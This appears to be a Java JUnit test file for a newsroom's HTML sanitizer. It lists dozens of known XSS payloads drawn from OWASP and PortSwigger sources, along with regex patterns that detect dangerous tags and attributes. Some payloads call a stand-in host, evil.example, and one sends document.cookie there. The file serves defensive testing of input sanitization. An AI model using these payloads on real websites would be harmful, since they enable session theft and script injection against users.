package id.newsroom.article.editing;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Known XSS vectors (OWASP cheat sheet, PortSwigger, html5sec) are stripped; ordinary news markup survives. */
class HtmlSanitizerTest {

    private final HtmlSanitizer sanitizer = new HtmlSanitizer();

    static Stream<String> vectors() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
                "<script>document.location='https://evil.example/?c='+document.cookie</script>",
                "<IMG SRC=\"javascript:alert('XSS');\">",
                "<IMG SRC=javascript:alert('XSS')>",
                "<IMG SRC=JaVaScRiPt:alert('XSS')>",
                "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
                "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
                "<IMG SRC=# onmouseover=\"alert('xxs')\">",
                "<IMG SRC= onmouseover=\"alert('xxs')\">",
                "<IMG onmouseover=\"alert('xxs')\">",
                "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
                "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
                "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
                "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
                "<IMG SRC=\"jav\tascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
                "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
                "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
                "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
                "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
                "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
                "<SCRIPT SRC=https://evil.example/xss.js?< B >",
                "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
                "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
                "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
                "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
                "<IMG DYNSRC=\"javascript:alert('XSS')\">",
                "<IMG LOWSRC=\"javascript:alert('XSS')\">",
                "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
                "<svg/onload=alert('XSS')>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<BR SIZE=\"&{alert('XSS')}\">",
                "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
                "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
                "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
                "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
                "<iframe src=\"https://evil.example/phish\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
                "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
                "<TD BACKGROUND=\"javascript:alert('XSS')\">",
                "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
                "<DIV STYLE=\"width: expression(alert('XSS'));\">",
                "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
                "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/scriptlet.html\"></OBJECT>",
                "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
                "<a href=\"javascript:alert(1)\">klik</a>",
                "<a href=\"JAVASCRIPT:alert(1)\">klik</a>",
                "<a href=\"  javascript:alert(1)\">klik</a>",
                "<a href=\"vbscript:msgbox(1)\">klik</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">klik</a>",
                "<a href=\"java&#0000115cript:alert(1)\">klik</a>",
                "<a href=\"#\" onclick=\"alert(1)\">klik</a>",
                "<p onmouseover=\"alert(1)\">teks</p>",
                "<form action=\"https://evil.example\"><input name=q><button>Kirim</button></form>",
                "<button formaction=\"javascript:alert(1)\">x</button>",
                "<details open ontoggle=alert(1)>",
                "<video><source onerror=\"alert(1)\"></video>",
                "<audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<base href=\"javascript:alert('XSS');//\">",
                "<img src=\"x\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<xss onafterscriptexecute=alert(1)><script>1</script>",
                "<blockquote cite=\"javascript:alert(1)\">kutipan</blockquote>",
                "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">");
    }

    private static final List<Pattern> DANGEROUS = List.of(
            Pattern.compile(
                    "<\\s*(script|style|iframe|frame|frameset|object|embed|svg|math|form|input|button|base|link|meta|body|video|audio|source|details|marquee|template|xss|noscript)\\b"),
            Pattern.compile("\\son[a-z]+\\s*="),
            Pattern.compile("(javascript|vbscript|data)\\s*:"),
            Pattern.compile("expression\\s*\\("),
            Pattern.compile("\\sstyle\\s*="),
            Pattern.compile("\\s(background|dynsrc|lowsrc|formaction|srcdoc)\\s*="));

    @ParameterizedTest
    @MethodSource("vectors")
    void attackVectorIsDefused(String vector) {
        String clean = sanitizer.sanitize("<p>Berita</p>" + vector).toLowerCase(Locale.ROOT);
        for (Pattern p : DANGEROUS) {
            // only markup counts: text content may mention "javascript:" harmlessly, so check inside tags
            for (String tag : tags(clean)) {
                assertThat(p.matcher(tag).find()).as("%s survived in %s", p, clean).isFalse();
            }
        }
    }

    @Test
    void corpusHasAtLeastFiftyVectors() {
        assertThat(vectors().count()).isGreaterThanOrEqualTo(50);
    }

    @Test
    void legitimateNewsMarkupSurvives() {
        String html = "<h2>Banjir di Ciledug</h2><p>Hujan deras <strong>semalam</strong> membuat <em>Kali Angke</em> meluap."
                + " Baca <a href=\"https://tangerangkota.go.id/info\">info resmi</a> dan <a href=\"/berita/banjir-2025\">arsip</a>.</p>"
                + "<figure><img src=\"https://cdn.newsroom.id/foto/banjir.jpg\" alt=\"Banjir\"><figcaption>Warga mengungsi.</figcaption></figure>"
                + "<blockquote>Kami siaga 24 jam.</blockquote><ul><li>Posko 1</li><li>Posko 2</li></ul><ol><li>Satu</li></ol>"
                + "<iframe src=\"https://www.youtube.com/embed/abc123\" width=\"560\" height=\"315\" allowfullscreen></iframe>";
        String clean = sanitizer.sanitize(html);
        assertThat(clean).contains("<h2>Banjir di Ciledug</h2>", "<strong>semalam</strong>", "<em>Kali Angke</em>",
                "href=\"https://tangerangkota.go.id/info\"", "href=\"/berita/banjir-2025\"",
                "<img src=\"https://cdn.newsroom.id/foto/banjir.jpg\" alt=\"Banjir\">",
                "<figcaption>Warga mengungsi.</figcaption>", "<blockquote>Kami siaga 24 jam.</blockquote>",
                "<li>Posko 1</li>", "<ol>", "src=\"https://www.youtube.com/embed/abc123\"");
    }

    @Test
    void iframesFromOtherHostsAreRemoved() {
        assertThat(sanitizer.sanitize("<iframe src=\"https://evil.example/embed\"></iframe><p>x</p>"))
                .isEqualTo("<p>x</p>");
        assertThat(sanitizer.sanitize("<iframe src=\"http://www.youtube.com/embed/x\"></iframe>")).isEmpty();
    }

    @Test
    void plainTextDropsMarkup() {
        assertThat(HtmlSanitizer.plainText("<b>Wali Kota</b> &amp; <script>x()</script>Warga"))
                .isEqualTo("Wali Kota & Warga");
    }

    private static List<String> tags(String html) {
        return Pattern.compile("<[^>]*>").matcher(html).results().map(m -> m.group()).toList();
    }
}
